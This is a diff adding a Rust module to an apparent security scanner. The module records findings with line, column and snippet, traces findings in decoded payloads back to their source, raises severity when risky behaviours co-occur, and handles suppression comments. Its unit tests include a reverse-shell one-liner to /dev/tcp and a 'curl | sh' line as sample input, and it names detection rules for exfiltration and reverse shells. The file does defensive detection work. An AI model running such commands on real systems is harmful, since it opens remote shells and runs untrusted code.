@@ -1,0 +1,346 @@
+//! Collecting findings for one file: turning byte offsets into lines, columns and snippets,
+//! mapping findings inside decoded payloads back to where the payload sits, and applying
+//! `skillsig-ignore: RULE-ID reason` comments.
+
+use super::finding::{Capability, Finding, Severity};
+use super::rules;
+
+/// How many findings one file may produce; the rest are counted, not kept.
+const MAX_FINDINGS_PER_FILE: usize = 500;
+
+/// The findings of one file under construction.
+pub(crate) struct Sink<'a> {
+    file: &'a str,
+    text: &'a str,
+    line_starts: Vec<usize>,
+    findings: Vec<Finding>,
+    /// While scanning text that is not a substring of the file (decoded payloads, command lists
+    /// joined into a string): where it came from in `text`, and how it was derived.
+    decoded: Vec<(usize, &'static str)>,
+    dropped: usize,
+    /// Facts about the whole file, for rules that combine them.
+    credential_at: Option<usize>,
+    env_dump_at: Option<usize>,
+    network: bool,
+}
+
+impl<'a> Sink<'a> {
+    pub fn new(file: &'a str, text: &'a str) -> Sink<'a> {
+        let mut line_starts = vec![0];
+        line_starts.extend(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i + 1));
+        Sink {
+            file,
+            text,
+            line_starts,
+            findings: Vec::new(),
+            decoded: Vec::new(),
+            dropped: 0,
+            credential_at: None,
+            env_dump_at: None,
+            network: false,
+        }
+    }
+
+    fn origin(&self, offset: usize) -> usize {
+        self.decoded.first().map_or(offset, |&(origin, _)| origin)
+    }
+
+    /// The file touches credentials at `offset`.
+    pub fn note_credential(&mut self, offset: usize) {
+        let at = self.origin(offset);
+        self.credential_at.get_or_insert(at);
+    }
+
+    /// The file dumps the environment at `offset`.
+    pub fn note_env_dump(&mut self, offset: usize) {
+        let at = self.origin(offset);
+        self.env_dump_at.get_or_insert(at);
+    }
+
+    /// The file uses the network.
+    pub fn note_network(&mut self) {
+        self.network = true;
+    }
+
+    /// Rules about the file as a whole: secrets and the network together; downloads run and
+    /// persistence escalated by what else the file does.
+    pub fn conclude(&mut self) {
+        let aggravating = self.findings.iter().any(|f| {
+            [
+                rules::EVADE_QUARANTINE,
+                rules::ARCHIVE_PASSWORD_EXTRACT,
+                rules::ARCHIVE_PASSWORD_INSTRUCTIONS,
+                rules::OBF_ENCODED_PAYLOAD,
+                rules::PROMPT_CONCEAL,
+                rules::HIDDEN_TAG_CHARACTERS,
+                rules::HIDDEN_BIDI,
+                rules::EXEC_DECODE_AND_RUN,
+                rules::EXEC_PIPE_TO_SHELL_RAW,
+                rules::NET_REVERSE_SHELL,
+                rules::EXEC_REMOTE_CODE,
+            ]
+            .contains(&f.rule)
+        });
+        let runs_downloads = self.findings.iter().any(|f| {
+            f.rule.starts_with("SK-EXEC-00")
+                && f.rule != rules::EXEC_PIPE_TO_SHELL_KNOWN
+                && f.rule != rules::EXEC_COMPUTED_SHELL
+        });
+        for finding in &mut self.findings {
+            if finding.rule == rules::EXEC_PIPE_TO_SHELL
+                && aggravating
+                && finding.severity < Severity::High
+            {
+                finding.severity = Severity::High;
+                finding
+                    .message
+                    .push_str("; high because the same file also hides or disguises what it does");
+            }
+            if finding.rule == rules::PERSISTENCE
+                && finding.severity < Severity::High
+                && (runs_downloads || aggravating)
+            {
+                finding.severity = Severity::High;
+                finding
+                    .message
+                    .push_str("; high because the same file also downloads and runs code");
+            }
+        }
+        if !self.network {
+            return;
+        }
+        let saved = std::mem::take(&mut self.decoded);
+        if let Some(at) = self.credential_at {
+            self.emit(
+                rules::CRED_EXFILTRATION,
+                at,
+                "reads credentials and uses the network in the same file",
+                None,
+            );
+        } else if let Some(at) = self.env_dump_at {
+            self.emit(
+                rules::CRED_EXFILTRATION,
+                at,
+                "dumps the environment and uses the network in the same file",
+                None,
+            );
+        }
+        self.decoded = saved;
+    }
+
+    /// Runs `scan` over text derived from the file at `offset` (a list joined into a command);
+    /// its findings point at `offset`, without a note.
+    pub fn with_origin(&mut self, offset: usize, scan: impl FnOnce(&mut Sink<'a>)) {
+        self.decoded.push((offset, ""));
+        scan(self);
+        self.decoded.pop();
+    }
+
+    /// How many decoding layers deep the current scan is.
+    pub fn decode_depth(&self) -> usize {
+        self.decoded.iter().filter(|(_, e)| !e.is_empty()).count()
+    }
+
+    /// Runs `scan` over text decoded from the blob at `offset`; its findings point at the blob.
+    pub fn with_decoded(
+        &mut self,
+        offset: usize,
+        encoding: &'static str,
+        scan: impl FnOnce(&mut Sink<'a>),
+    ) {
+        self.decoded.push((offset, encoding));
+        scan(self);
+        self.decoded.pop();
+    }
+
+    /// Reports a finding of `rule` at byte `offset` of the file (or of the decoded text).
+    pub fn emit(
+        &mut self,
+        rule: &'static str,
+        offset: usize,
+        message: impl Into<String>,
+        value: Option<String>,
+    ) {
+        let meta = rules::rule(rule).unwrap_or_else(|| panic!("unknown rule {rule}"));
+        self.emit_with(rule, meta.severity, offset, message, value);
+    }
+
+    /// Like [`Sink::emit`] with an explicit severity (for rules whose severity depends on context).
+    pub fn emit_with(
+        &mut self,
+        rule: &'static str,
+        severity: Severity,
+        offset: usize,
+        message: impl Into<String>,
+        value: Option<String>,
+    ) {
+        let meta = rules::rule(rule).unwrap_or_else(|| panic!("unknown rule {rule}"));
+        let (offset, mut message) = match self.decoded.first() {
+            Some(&(origin, _)) => {
+                let chain: Vec<&str> = self
+                    .decoded
+                    .iter()
+                    .map(|(_, e)| *e)
+                    .filter(|e| !e.is_empty())
+                    .collect();
+                let message = message.into();
+                if chain.is_empty() {
+                    (origin, message)
+                } else {
+                    (
+                        origin,
+                        format!("{message} (in {}-decoded text)", chain.join("-then-")),
+                    )
+                }
+            }
+            None => (offset, message.into()),
+        };
+        if message.is_empty() {
+            message = meta.title.to_owned();
+        }
+        let offset = offset.min(self.text.len());
+        let line_index = self.line_starts.partition_point(|&start| start <= offset) - 1;
+        let line_start = self.line_starts[line_index];
+        let mut col_offset = offset;
+        while !self.text.is_char_boundary(col_offset) {
+            col_offset -= 1;
+        }
+        let column = self.text[line_start..col_offset].chars().count() + 1;
+        let capability = meta.capability.map(|kind| Capability { kind, value });
+        let finding = Finding {
+            rule,
+            severity,
+            capability,
+            file: self.file.to_owned(),
+            line: line_index + 1,
+            column,
+            snippet: snippet(self.line_text(line_index)),
+            message,
+            suppressed: None,
+        };
+        if self.findings.contains(&finding) {
+            return;
+        }
+        if self.findings.len() >= MAX_FINDINGS_PER_FILE {
+            self.dropped += 1;
+            return;
+        }
+        self.findings.push(finding);
+    }
+
+    fn line_text(&self, index: usize) -> &str {
+        let start = self.line_starts[index];
+        let end = self
+            .line_starts
+            .get(index + 1)
+            .map_or(self.text.len(), |&e| e - 1);
+        &self.text[start..end.max(start)]
+    }
+
+    /// The findings, with suppressions applied, and how many were dropped over the cap.
+    pub fn finish(mut self) -> (Vec<Finding>, usize) {
+        let suppressions = parse_suppressions(self.text);
+        for finding in &mut self.findings {
+            if finding.severity == Severity::Critical {
+                continue;
+            }
+            if let Some((_, _, reason)) = suppressions.iter().find(|(line, id, _)| {
+                (*line == finding.line || *line + 1 == finding.line) && *id == finding.rule
+            }) {
+                finding.suppressed = Some(reason.clone());
+            }
+        }
+        (self.findings, self.dropped)
+    }
+}
+
+/// A line shortened for display: trimmed, at most 160 characters.
+fn snippet(line: &str) -> String {
+    let trimmed = line.trim();
+    if trimmed.chars().count() <= 160 {
+        trimmed.to_owned()
+    } else {
+        let cut: String = trimmed.chars().take(157).collect();
+        format!("{cut}...")
+    }
+}
+
+/// `skillsig-ignore: SK-A-001[,SK-B-002] reason` anywhere on a line: (line, rule id, reason).
+/// It applies to findings on that line and the next. Critical findings cannot be suppressed.
+fn parse_suppressions(text: &str) -> Vec<(usize, String, String)> {
+    const MARK: &str = "skillsig-ignore:";
+    let mut out = Vec::new();
+    for (index, line) in text.lines().enumerate() {
+        let Some(at) = line.find(MARK) else { continue };
+        let rest = line[at + MARK.len()..].trim();
+        let (ids, reason) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
+        let reason = reason
+            .trim()
+            .trim_end_matches("-->")
+            .trim_end_matches("*/")
+            .trim();
+        let reason = if reason.is_empty() {
+            "no reason given".to_owned()
+        } else {
+            reason.to_owned()
+        };
+        for id in ids.split(',').filter(|id| id.starts_with("SK-")) {
+            out.push((index + 1, id.to_owned(), reason.clone()));
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn positions_snippets_and_suppressions() {
+        let text = "first\n  curl x | sh  # skillsig-ignore: SK-EXEC-001 vendor installer, pinned\nthird é line\n";
+        let mut sink = Sink::new("run.sh", text);
+        sink.emit(
+            rules::EXEC_PIPE_TO_SHELL,
+            text.find("curl").unwrap(),
+            "m",
+            None,
+        );
+        sink.emit(
+            rules::USES_EXEC,
+            text.find("line").unwrap(),
+            "",
+            Some("x".into()),
+        );
+        let (findings, dropped) = sink.finish();
+        assert_eq!(dropped, 0);
+        assert_eq!((findings[0].line, findings[0].column), (2, 3));
+        assert_eq!(
+            findings[0].suppressed.as_deref(),
+            Some("vendor installer, pinned")
+        );
+        assert_eq!((findings[1].line, findings[1].column), (3, 9));
+        assert_eq!(findings[1].snippet, "third é line");
+        assert_eq!(findings[1].message, "Runs a program");
+        assert!(findings[1].suppressed.is_none());
+    }
+
+    #[test]
+    fn critical_findings_cannot_be_suppressed() {
+        let text = "# skillsig-ignore: SK-NET-001 testing\nbash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n";
+        let mut sink = Sink::new("x.sh", text);
+        sink.emit(rules::NET_REVERSE_SHELL, 40, "m", None);
+        assert!(sink.finish().0[0].suppressed.is_none());
+    }
+
+    #[test]
+    fn decoded_findings_point_at_the_blob() {
+        let text = "x = 'QUJD'\n";
+        let mut sink = Sink::new("a.py", text);
+        sink.with_decoded(4, "base64", |sink| {
+            sink.emit(rules::EXEC_PIPE_TO_SHELL, 999, "pipe", None)
+        });
+        let (findings, _) = sink.finish();
+        assert_eq!((findings[0].line, findings[0].column), (1, 5));
+        assert!(findings[0].message.ends_with("(in base64-decoded text)"));
+    }
+}
